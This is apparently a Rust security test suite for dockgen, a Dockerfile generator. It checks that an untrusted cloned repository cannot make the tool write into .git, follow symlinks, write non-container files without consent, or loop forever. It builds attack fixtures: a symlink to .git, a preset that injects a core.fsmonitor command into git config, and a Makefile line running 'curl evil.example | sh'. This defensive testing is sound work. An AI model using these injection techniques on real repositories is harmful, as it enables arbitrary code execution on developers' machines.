//! A repository cloned from a stranger controls every name and file in it, its presets and
//! its `.dockgen.toml` included. Whatever it holds, dockgen writes only regular files inside
//! the project, never into `.git`, never through a link, and a preset that comes from the
//! repository writes nothing but container files without the user's consent.

use std::path::Path;
use std::process::Command;

use crate::support::{dockgen, outcome, TempProject};

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "a")
        .env("GIT_AUTHOR_EMAIL", "a@example.com")
        .env("GIT_COMMITTER_NAME", "a")
        .env("GIT_COMMITTER_EMAIL", "a@example.com")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn write(dir: &Path, rel: &str, text: &str) {
    let path = dir.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// The attack as found: a link `gitdir -> .git`, a repository preset writing
/// `gitdir/config`, and a `.dockgen.toml` recording a fresh clone's `.git/config` as what
/// dockgen wrote there, so a re-run "merges" an `fsmonitor` command into git's config.
#[cfg(unix)]
#[test]
fn a_cloned_repository_cannot_make_dockgen_write_into_git() {
    let work = tempfile::tempdir().unwrap();
    let origin = work.path().join("origin");
    std::fs::create_dir(&origin).unwrap();
    git(&origin, &["init", "-q", "-b", "main"]);
    write(
        &origin,
        "package.json",
        r#"{"name":"app","main":"server.js","dependencies":{"express":"^5.1.0"}}"#,
    );
    write(&origin, "server.js", "require('express')().listen(3000);\n");
    std::os::unix::fs::symlink(".git", origin.join("gitdir")).unwrap();
    git(&origin, &["add", "-A"]);
    git(&origin, &["commit", "-qm", "app"]);

    // What `.git/config` holds in a fresh clone of it (the same for every clone).
    let probe = work.path().join("probe");
    git(work.path(), &["clone", "-q", "origin", "probe"]);
    let clone_config = std::fs::read_to_string(probe.join(".git/config")).unwrap();
    let marker = work.path().join("PWNED");
    let evil_config = format!(
        "{clone_config}[core]\n\tfsmonitor = \"touch {}; false\"\n",
        marker.display()
    );

    write(
        &origin,
        ".dockgen/presets/evil/preset.toml",
        "schema = 1\nname = \"evil\"\ndescription = \"x\"\nstack = \"node\"\nextends = \"node-slim\"\n\n[[files]]\noutput = \"gitdir/config\"\ntemplate = \"config.j2\"\n",
    );
    write(
        &origin,
        ".dockgen/presets/evil/config.j2",
        &evil_config.replace('{', "{{ '{' }}"),
    );
    let record = toml::toml! {
        dockgen = "0.1.0"
        [preset]
        name = "evil"
        origin = ".dockgen/presets/evil"
        version = "0.1.0"
    };
    let mut record = toml::Value::Table(record);
    record.as_table_mut().unwrap().insert(
        "files".into(),
        toml::Value::Table(toml::toml! { ["gitdir/config"] written = "" }),
    );
    record["files"]["gitdir/config"]["written"] = toml::Value::String(clone_config.clone());
    write(&origin, ".dockgen.toml", &toml::to_string(&record).unwrap());
    git(&origin, &["add", "-A"]);
    git(&origin, &["commit", "-qm", "presets"]);

    let clone = work.path().join("clone");
    git(work.path(), &["clone", "-q", "origin", "clone"]);
    assert_eq!(
        std::fs::read_to_string(clone.join(".git/config")).unwrap(),
        clone_config
    );

    // without consent the repository's preset writes no file but container files; with it,
    // still never through the link into `.git`
    for (extra, refusal) in [
        (
            &[][..],
            "would write `gitdir/config`, which is not a container file",
        ),
        (
            &["--force"][..],
            "gitdir/config`: lies in `gitdir`, a folder that is a symbolic link",
        ),
    ] {
        let out = dockgen()
            .args(["init", "--yes"])
            .args(extra)
            .arg(&clone)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{extra:?}: {stderr}");
        assert!(stderr.contains(refusal), "{extra:?}: {stderr}");
    }
    assert_eq!(
        std::fs::read_to_string(clone.join(".git/config")).unwrap(),
        clone_config
    );
    git(&clone, &["status", "--short"]);
    assert!(!marker.exists(), "git ran the repository's command");
    assert!(!clone.join("Dockerfile").exists(), "something was written");
}

fn repository_preset(p: &TempProject, files: &[(&str, &str)]) {
    let mut manifest = String::from(
        "schema = 1\nname = \"team\"\ndescription = \"the team's image\"\nstack = \"node\"\nextends = \"node-slim\"\n",
    );
    for (output, template) in files {
        manifest.push_str(&format!(
            "\n[[files]]\noutput = \"{output}\"\ntemplate = \"{template}\"\n"
        ));
    }
    write(p.path(), ".dockgen/presets/team/preset.toml", &manifest);
}

fn express() -> TempProject {
    TempProject::new()
        .file(
            "package.json",
            r#"{"name":"app","main":"server.js","dependencies":{"express":"^5.1.0"}}"#,
        )
        .file("server.js", "require('express')().listen(3000);\n")
}

#[test]
fn a_repository_preset_writing_other_than_container_files_needs_consent() {
    let p = express().file(
        ".dockgen/presets/team/Makefile.j2",
        "all:\n\tcurl evil.example | sh\n",
    );
    repository_preset(
        &p,
        &[
            ("Dockerfile", "node/Dockerfile.j2"),
            ("Makefile", "Makefile.j2"),
        ],
    );
    let path = p.path().to_str().unwrap().to_string();
    insta::assert_snapshot!(outcome(dockgen().args(["init", "--yes", "--preset", "team", &path]), p.path()), @r"
        success: false
        exit_code: 2
        ----- stdout -----

        ----- stderr -----
        warning: no lockfile for npm: the image installs whatever versions resolve at build time; commit a lockfile for reproducible builds
        warning: preset `team` comes from this repository (`.dockgen/presets/team`), not from you, and would write `Makefile`, which is not a container file; read the preset, then run `dockgen init` and confirm, or pass `--force`
        error: preset `team` comes from this repository (`.dockgen/presets/team`) and would write `Makefile`, which is not a container file; a repository's presets are code you did not write: read the preset, then pass `--force` to let it write them. Nothing was written
        ");
    assert!(!p.exists("Makefile") && !p.exists("Dockerfile"));

    // plan says which preset, from where, writes which files
    insta::assert_snapshot!(outcome(dockgen().args(["plan", "--preset", "team", &path]), p.path()), @r#"
        success: true
        exit_code: 0
        ----- stdout -----
        preset: team (from this repository: `.dockgen/presets/team`)
          stack            node                                     from package.json: an Express app
          package_manager  npm                                      from no lockfile (npm is the default)
          framework        express                                  from package.json
          start            ["node","server.js"]                     from package.json main
          port             3000                                     from server.js
        answers:
          bind_address     127.0.0.1                                (preset default)
          build_args       []                                       (preset default)
          build_packages   []                                       (preset default)
          ci               none                                     (preset default)
          ci_image                                                  (preset default)
          compose          true                                     (preset default)
          cpu_limit        1.0                                      (preset default)
          dockgen_version                                           (preset default)
          env              []                                       (preset default)
          health_path      /                                        (preset default)
          mariadb          drop                                     (preset default)
          memory_limit     512M                                     (preset default)
          mongodb          drop                                     (preset default)
          node_version     24                                       (preset default)
          port             3000                                     (detected)
          postgres         drop                                     (preset default)
          rabbitmq         drop                                     (preset default)
          read_only        true                                     (preset default)
          redis            drop                                     (preset default)
          registry                                                  (preset default)
          runtime_packages []                                       (preset default)
          start            ["node","server.js"]                     (detected)
          user_id          1000                                     (preset default)
          writable_dirs                                             (preset default)
        files: Dockerfile, .dockerignore, compose.yaml, Makefile

        ----- stderr -----
        warning: no lockfile for npm: the image installs whatever versions resolve at build time; commit a lockfile for reproducible builds
        warning: preset `team` comes from this repository (`.dockgen/presets/team`), not from you, and would write `Makefile`, which is not a container file; read the preset, then run `dockgen init` and confirm, or pass `--force`
        "#);

    // with consent it writes
    dockgen()
        .args(["init", "--yes", "--force", "--preset", "team", &path])
        .assert()
        .success();
    assert!(p.exists("Makefile"));
}

#[test]
fn a_repository_preset_may_write_container_files_and_what_the_dockerfile_copies() {
    let p = express().file(
        ".dockgen/presets/team/Dockerfile.j2",
        "{% extends \"node/Dockerfile.j2\" %}\n{% block runtime %}{{ super() }}\nCOPY team-ca.crt /usr/local/share/ca-certificates/\n{% endblock %}\n",
    )
    .file(".dockgen/presets/team/ca.j2", "-----BEGIN CERTIFICATE-----\n");
    repository_preset(
        &p,
        &[
            ("Dockerfile", "Dockerfile.j2"),
            ("team-ca.crt", "ca.j2"),
            ("compose.yaml", "compose/base.yaml.j2"),
        ],
    );
    let path = p.path().to_str().unwrap().to_string();
    dockgen()
        .args(["init", "--yes", "--preset", "team", &path])
        .assert()
        .success();
    assert!(p.exists("team-ca.crt") && p.exists("Dockerfile") && p.exists("compose.yaml"));
}

#[test]
fn a_journal_shipped_by_a_repository_cannot_name_git_files() {
    let p = express().file(
        ".dockgen-journal.toml",
        "committed = false\n[[file]]\npath = \".git/config\"\nexisted = true\n",
    );
    let path = p.path().to_str().unwrap().to_string();
    insta::assert_snapshot!(outcome(dockgen().args(["init", "--yes", &path]), p.path()), @r"
        success: false
        exit_code: 2
        ----- stdout -----

        ----- stderr -----
        error: `[PROJECT]/.dockgen-journal.toml`: it names `.git/config`, which passes through `.git`; dockgen never writes into version control's folders (`.git`, `.hg`, `.svn`…) or over its own files (`.dockgen*`); it is not a journal dockgen can use: if no `dockgen init` was interrupted here, delete it
        ");
}

#[test]
fn a_repository_preset_cannot_hold_dockgen_in_a_loop() {
    let p = express().file(
        ".dockgen/presets/team/Dockerfile.j2",
        "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}\n",
    );
    repository_preset(&p, &[("Dockerfile", "Dockerfile.j2")]);
    let path = p.path().to_str().unwrap().to_string();
    let mut cmd = dockgen();
    cmd.args(["plan", "--preset", "team", &path])
        .timeout(std::time::Duration::from_secs(60));
    insta::assert_snapshot!(outcome(&mut cmd, p.path()), @r"
        success: false
        exit_code: 2
        ----- stdout -----

        ----- stderr -----
        error: rendering `Dockerfile.j2` of preset `team` failed: Dockerfile.j2: the template takes more than the 5000000 steps dockgen allows a render (a loop that runs too long?); simplify it
        ");
}
